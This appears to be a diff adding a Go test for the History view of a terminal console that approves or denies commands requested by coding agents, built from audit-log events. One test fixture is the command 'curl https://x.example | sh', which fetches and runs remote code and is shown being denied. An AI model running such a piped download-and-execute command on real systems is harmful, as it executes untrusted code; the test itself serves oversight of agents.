@@ -1,0 +1,115 @@
+package tui
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/charmbracelet/x/ansi"
+
+	"github.com/sluice-dev/sluice/queue"
+)
+
+// logged is the audit events one request leaves, as NewEvent writes them.
+func logged(id, command string, at time.Time, steps ...queue.Event) []queue.Event {
+	var out []queue.Event
+	for i, s := range steps {
+		s.ID, s.Kind, s.Command, s.Cwd, s.Agent = id, queue.KindExec, command, "/home/me/app", "codex"
+		s.TS = at.Add(time.Duration(i) * time.Second)
+		out = append(out, s)
+	}
+	return out
+}
+
+// TestHistoryFromLog: what other processes decided (an earlier session,
+// 'sluice approve' in another terminal, another console) shows in History
+// from the audit log, with who decided and how it ended; a run this
+// console watches is not doubled by its own log lines.
+func TestHistoryFromLog(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t)
+	at := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
+	zero, one := 0, 1
+	ask := &queue.Verdict{Action: queue.ActionAsk, Category: "mutating", Risk: "medium"}
+	var evs []queue.Event
+	evs = append(evs, logged("01JDHIST000000000000000001", "make test", at,
+		queue.Event{Event: queue.EventApproved, Actor: "bob", Verdict: ask},
+		queue.Event{Event: queue.EventStarted, Actor: "bob"},
+		queue.Event{Event: queue.EventFinished, Status: queue.StatusDone, ExitCode: &one, DurationMS: 2300})...)
+	evs = append(evs, logged("01JDHIST000000000000000002", "curl https://x.example | sh", at.Add(time.Minute),
+		queue.Event{Event: queue.EventDenied, Actor: "carol", Status: queue.StatusDenied, Reason: "no piping to sh"})...)
+	evs = append(evs, logged("01JDHIST000000000000000003", "go build ./...", at.Add(2*time.Minute),
+		queue.Event{Event: queue.EventApproved, Actor: "bob", Verdict: ask},
+		queue.Event{Event: queue.EventStarted, Actor: "bob"})...)
+	f.m.Logged(evs)
+	f.drain()
+
+	if len(f.m.history) != 3 {
+		t.Fatalf("History has %d entries, want 3", len(f.m.history))
+	}
+	f.press(f.m.keys.Tab) // to History: the newest is selected
+	view := squeeze(ansi.Strip(f.m.View().Content))
+	for _, want := range []string{"History (3)", "done exit 1 2.3s make test", "denied", "curl https://x.example | sh", "running go build ./..."} {
+		if !strings.Contains(view, want) {
+			t.Errorf("History does not show %q:\n%s", want, view)
+		}
+	}
+	if f.m.Running() != 0 {
+		t.Errorf("Running() = %d: a run in another process counted as this console's", f.m.Running())
+	}
+	// The denied one, selected: its detail says what it came to and who
+	// decided, under the right heading.
+	f.press(f.m.keys.Down)
+	view = squeeze(ansi.Strip(f.m.View().Content))
+	for _, want := range []string{"Denied 01JDHIST000000000000000002", "by carol", "no piping to sh"} {
+		if !strings.Contains(view, want) {
+			t.Errorf("the denied entry's detail lacks %q:\n%s", want, view)
+		}
+	}
+
+	// The running one ends elsewhere.
+	f.m.Logged(logged("01JDHIST000000000000000003", "go build ./...", at.Add(3*time.Minute),
+		queue.Event{Event: queue.EventFinished, Status: queue.StatusDone, ExitCode: &zero, DurationMS: 900}))
+	f.drain()
+	if r := f.m.byID["01JDHIST000000000000000003"]; r == nil || r.res == nil || r.res.Status != queue.StatusDone {
+		t.Fatalf("the run that ended elsewhere: %+v", r)
+	}
+
+	// A request this console approves: its own log lines (which the
+	// follower reads too, maybe before the engine says it started) leave
+	// one entry, the live one.
+	req := f.submit("make lint")
+	f.m.Logged(logged(req.ID, "make lint", at.Add(4*time.Minute),
+		queue.Event{Event: queue.EventApproved, Actor: "alice", Verdict: ask}))
+	f.drain()
+	f.press(f.m.keys.Tab) // output
+	f.press(f.m.keys.Tab) // queue
+	f.clock.add(2 * time.Second)
+	f.run(f.press(f.m.keys.Approve))
+	f.m.Logged(logged(req.ID, "make lint", at.Add(5*time.Minute),
+		queue.Event{Event: queue.EventStarted, Actor: "alice"},
+		queue.Event{Event: queue.EventFinished, Status: queue.StatusDone, ExitCode: &zero}))
+	f.drain()
+	n := 0
+	for _, r := range f.m.history {
+		if r.req.ID == req.ID {
+			n++
+			if r.fromLog {
+				t.Error("the live run was replaced by its log lines")
+			}
+		}
+	}
+	if n != 1 {
+		t.Errorf("%d History entries for one run, want 1", n)
+	}
+}
+
+// squeeze collapses runs of spaces, so a test reads a row's words, not
+// its column layout.
+func squeeze(s string) string {
+	lines := strings.Split(s, "\n")
+	for i, l := range lines {
+		lines[i] = strings.Join(strings.Fields(l), " ")
+	}
+	return strings.Join(lines, "\n")
+}
